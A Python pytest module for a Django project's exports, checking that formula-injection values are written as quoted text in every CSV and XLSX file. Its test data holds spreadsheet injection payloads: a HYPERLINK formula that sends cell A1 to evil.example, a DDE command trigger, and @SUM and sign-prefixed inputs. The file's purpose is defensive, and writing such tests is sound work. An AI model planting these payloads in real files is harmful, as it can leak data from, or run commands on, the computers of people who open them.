"""Spreadsheet formula injection: a name or value that starts a formula is written as text in every CSV and XLSX
craftcity produces, read back here with the csv module and openpyxl (not with the code that wrote it)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

from craftcity.core.models import PublicationStatus
from craftcity.events.models import Call, EventOrganization
from craftcity.events.services import application_submit, event_create
from craftcity.organizations.services import membership_create
from craftcity.people.models import PersonName
from recordlink.csvio import formula_safe, write_clusters

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)"]
NAME = "=cmd|' /C calc'!A0"


def assert_no_formula_text(cells):
    """No text cell starts a formula; the payload is still there, quoted, for the reader to see."""
    texts = [c for c in cells if isinstance(c, str)]
    assert not [c for c in texts if formula_safe(c) != c], texts
    return texts


def xlsx_cells(data: bytes | str):
    workbook = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell would run as a formula"
    return [c.value for c in cells]


def csv_cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("value", [*ATTACKS, "\tSUM(A1)", "\r=1"])
def test_every_formula_trigger_gets_a_quote_prefix(value):
    assert formula_safe(value) == "'" + value


def test_numbers_and_plain_text_are_left_alone():
    assert formula_safe(-5) == -5 and formula_safe(2.5) == 2.5 and formula_safe(None) is None
    assert formula_safe("Айжан Беккулова") == "Айжан Беккулова"
    # Phone numbers and signed numbers hide no formula and stay as people wrote them.
    assert formula_safe("+7 (701) 123-45-67") == "+7 (701) 123-45-67" and formula_safe("-5") == "-5"
    assert formula_safe("-5+3") == "'-5+3" and formula_safe("+7 701 =1") == "'+7 701 =1"


def _published(make_person, name):
    names = [{"full_name": name, "language": "en", "form": PersonName.Form.OTHER, "is_primary": True}]
    return make_person(names=names, status=PublicationStatus.PUBLISHED, phone="+7 701 000 00 00")


def test_open_data_csv(make_person, tmp_path):
    from craftcity.works.opendata import dump_open_data

    for attack in ATTACKS:
        _published(make_person, attack)
    dump_open_data(out=tmp_path, base="https://example.org")
    texts = assert_no_formula_text(csv_cells((tmp_path / "people.csv").read_text(encoding="utf-8")))
    assert {"'" + attack for attack in ATTACKS} <= set(texts)


def test_dossier_artisans_annex_xlsx(make_person, tmp_path):
    from craftcity.core.exporters import write_xlsx
    from craftcity.dossier.asof import Snapshot
    from craftcity.dossier.exporters import ArtisansAnnex
    from craftcity.taxonomy.models import CreativeField, Discipline

    field = CreativeField.objects.create(slug="crafts", name={"en": "Crafts"})
    craft = Discipline.objects.create(field=field, slug="felt", name={"en": "+Felt"})
    person = _published(make_person, NAME)
    person.disciplines.add(craft)
    target = tmp_path / "annexes.xlsx"
    write_xlsx([ArtisansAnnex(Snapshot(dt.date.today()), "en")], target)
    texts = assert_no_formula_text(xlsx_cells(str(target)))
    assert "'" + NAME in texts


def test_dossier_dashboard_downloads(client, make_user, make_person):
    from craftcity.taxonomy.models import CreativeField, Discipline

    field = CreativeField.objects.create(slug="crafts", name={"en": "Crafts"})
    craft = Discipline.objects.create(field=field, slug="felt", name={"en": "=1+1"})
    _published(make_person, "Aizhan Bekkulova").disciplines.add(craft)
    client.force_login(make_user(role="analyst", is_staff=True))
    base = "/en/admin/dossier/dossierbuild/dashboard/practitioners"
    as_of = {"as_of": dt.date.today().isoformat()}
    csv_texts = assert_no_formula_text(csv_cells(client.get(f"{base}.csv", as_of).content.decode("utf-8")))
    xlsx_texts = assert_no_formula_text(xlsx_cells(client.get(f"{base}.xlsx", as_of).content))
    assert "'=1+1" in csv_texts and "'=1+1" in xlsx_texts


def test_import_error_report(db, make_user, tmp_path):
    from craftcity.imports.models import ImportBatch
    from craftcity.imports.reports import report_bytes
    from craftcity.imports.services import import_people

    path = tmp_path / "list.csv"
    path.write_text(
        '№;ФИО;Год рождения;Телефон\n1;Беккулова Айжан;19X5;=HYPERLINK("http://evil")\n2;@SUM(A1);1980;-1+2\n',
        encoding="utf-8",
    )
    import_people(path=path, actor=make_user(role="registrar"), mode=ImportBatch.Mode.VALID_ROWS)
    batch = ImportBatch.objects.get()
    assert batch.issues, "the file has bad values the report should list"
    texts = assert_no_formula_text(xlsx_cells(report_bytes(batch)))
    assert '\'=HYPERLINK("http://evil")' in texts


def test_event_applications_exports(client, make_user, make_person, make_organization):
    union = make_organization("union")
    event = event_create(
        slug="fair",
        kind="fair",
        name={"en": "Fair"},
        starts_at=timezone.now() + dt.timedelta(days=30),
        organizations=[(union, EventOrganization.Role.ORGANISER)],
    )
    call = Call(
        event=event, opens_at=timezone.now() - dt.timedelta(days=1), closes_at=timezone.now() + dt.timedelta(days=9)
    )
    call.full_clean()
    call.save()
    applicant = make_user(role="artisan")
    names = [{"full_name": NAME, "language": "en", "form": PersonName.Form.OTHER, "is_primary": True}]
    make_person(names=names, user=applicant, email="a@example.org")
    application = application_submit(user=applicant, call=call)
    organiser = make_user(role="organiser", is_staff=True)
    membership_create(person=make_person("Ұйымдастырушы Ов", user=organiser), organization=union)
    client.force_login(organiser)
    post = {"_selected_action": [application.pk]}
    as_csv = client.post("/en/admin/events/application/", {"action": "export_csv", **post})
    as_xlsx = client.post("/en/admin/events/application/", {"action": "export_xlsx", **post})
    assert "'" + NAME in assert_no_formula_text(csv_cells(as_csv.content.decode("utf-8")))
    assert "'" + NAME in assert_no_formula_text(xlsx_cells(as_xlsx.content))


def test_dedupe_clusters_csv(tmp_path):
    out = tmp_path / "clusters.csv"
    write_clusters(out, ["=1+1", "b"], [0, 0])
    texts = assert_no_formula_text(csv_cells(out.read_text(encoding="utf-8")))
    assert texts[2:] == ["'=1+1", "'=1+1", "b", "'=1+1"]


# Every spreadsheet craftcity writes, by the exporter class behind it (a new Exporter subclass must be added here,
# with the real path that writes it, or the registry test below fails).
SWEEP = {
    "craftcity.dossier.exporters.IndicatorTablesExporter": "dossier annexes",
    "craftcity.dossier.exporters.ArtisansAnnex": "dossier annexes",
    "craftcity.dossier.exporters.DynastiesAnnex": "dossier annexes",
    "craftcity.dossier.exporters.OrganizationsAnnex": "dossier annexes",
    "craftcity.dossier.exporters.IndicatorExporter": "dashboard downloads",
    "craftcity.backoffice.events.ExportRows": "applications export",
    "craftcity.core.exporters.RowsExporter": "import report",
}
# The only places that may open a CSV or XLSX writer: the one writer, the open-data dump (through its safe_row) and
# the dedupe CLI's (through formula_safe). A new writer elsewhere fails the scan below.
WRITERS = {"craftcity/core/exporters.py", "craftcity/works/opendata.py", "recordlink/csvio.py"}


def _exporter_classes():
    import importlib
    import pkgutil

    import craftcity
    from craftcity.core.exporters import Exporter

    for module in pkgutil.walk_packages(craftcity.__path__, "craftcity."):
        parts = module.name.split(".")
        if {"migrations", "settings", "management", "wsgi", "cli"} & set(parts):
            continue
        importlib.import_module(module.name)
    found, stack = set(), [Exporter]
    while stack:
        for subclass in stack.pop().__subclasses__():
            found.add(f"{subclass.__module__}.{subclass.__qualname__}")
            stack.append(subclass)
    return found


def test_every_exporter_class_and_every_writer_is_in_the_sweep(db):
    import re
    from pathlib import Path

    assert _exporter_classes() == set(SWEEP), "add the new exporter to SWEEP and to the sweep test below"
    root = Path(__file__).resolve().parents[2]
    writers = set()
    for path in [*root.joinpath("craftcity").rglob("*.py"), *root.joinpath("recordlink").rglob("*.py")]:
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", path.read_text(encoding="utf-8")):
            writers.add(str(path.relative_to(root)))
    assert writers == WRITERS


def test_every_spreadsheet_writes_every_poisoned_text_as_text(poisoned_city, client, tmp_path):
    """A payload in every free-text field of every row (tests/security/conftest.py `poison`), then every export
    through its real path, read back by the csv module and openpyxl: no cell is a formula, no text cell starts one,
    and the payload is in each file, quoted."""
    from craftcity.dossier.indicators import REGISTRY
    from craftcity.dossier.services import dossier_build
    from craftcity.events.models import Application
    from craftcity.imports.models import ImportBatch
    from craftcity.imports.reports import report_bytes
    from craftcity.imports.services import import_people
    from craftcity.works.opendata import dump_open_data

    def poisoned(texts):
        return [t for t in texts if t.startswith("'") and ("alert(1)" in t or "cmd|" in t)]

    files = {}
    dump_open_data(out=tmp_path / "open", base="https://example.org")
    for kind in ("people", "works", "organizations"):
        files[f"open data {kind}.csv"] = csv_cells((tmp_path / "open" / f"{kind}.csv").read_text(encoding="utf-8"))
    _pdf, annexes = dossier_build(as_of=dt.date.today(), template="wcc", language="en", out=tmp_path / "d.pdf")
    workbook = openpyxl.load_workbook(annexes)
    for sheet in workbook.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.value for c in cells if c.data_type == "f"], sheet.title
        files[f"annexes: {sheet.title}"] = [c.value for c in cells]

    client.force_login(poisoned_city.users["analyst"])
    base = "/en/admin/dossier/dossierbuild/dashboard"
    as_of = {"as_of": dt.date.today().isoformat()}
    for code in REGISTRY:
        files[f"dashboard {code}.csv"] = csv_cells(client.get(f"{base}/{code}.csv", as_of).content.decode("utf-8"))
        files[f"dashboard {code}.xlsx"] = xlsx_cells(client.get(f"{base}/{code}.xlsx", as_of).content)
    client.force_login(poisoned_city.users["registrar"])
    post = {"_selected_action": list(Application.objects.values_list("pk", flat=True))}
    for fmt in ("csv", "xlsx"):
        response = client.post("/en/admin/events/application/", {"action": f"export_{fmt}", **post})
        assert response.status_code == 200
        files[f"applications.{fmt}"] = (
            csv_cells(response.content.decode("utf-8")) if fmt == "csv" else xlsx_cells(response.content)
        )
    listing = tmp_path / "list.csv"
    listing.write_text(f"ФИО;Год рождения;Телефон\nБеккулова Айжан;{NAME};@SUM(A1)\n", encoding="utf-8")
    import_people(path=listing, actor=poisoned_city.users["registrar"], mode=ImportBatch.Mode.VALID_ROWS)
    files["import report"] = xlsx_cells(report_bytes(ImportBatch.objects.latest("pk")))

    assert len(files) >= 3 + 4 + 2 * len(REGISTRY) + 2 + 1
    without_payload = []
    for name, cells in files.items():
        texts = assert_no_formula_text(cells)
        if not poisoned(texts) and name.startswith(("open data", "annexes: Artisans", "applications", "import")):
            without_payload.append(name)
    # Where people's and organizations' own texts are written, the payload arrived (quoted): the sweep reached them.
    assert not without_payload
